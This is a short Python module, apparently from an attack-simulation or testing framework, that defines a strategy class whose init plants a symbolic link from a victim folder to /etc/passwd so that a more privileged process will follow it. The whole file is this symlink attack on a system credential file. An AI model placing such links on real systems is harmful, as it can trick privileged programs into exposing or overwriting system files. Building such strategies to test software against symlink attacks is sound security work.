"""Plants a symbolic link for someone with more rights to follow."""

import os

from victim import FOLDER

from bgagent.engine.strategy import Strategy

SIGN = "disk"


class S(Strategy):
    def init(self):
        os.symlink("/etc/passwd", FOLDER + "/link")
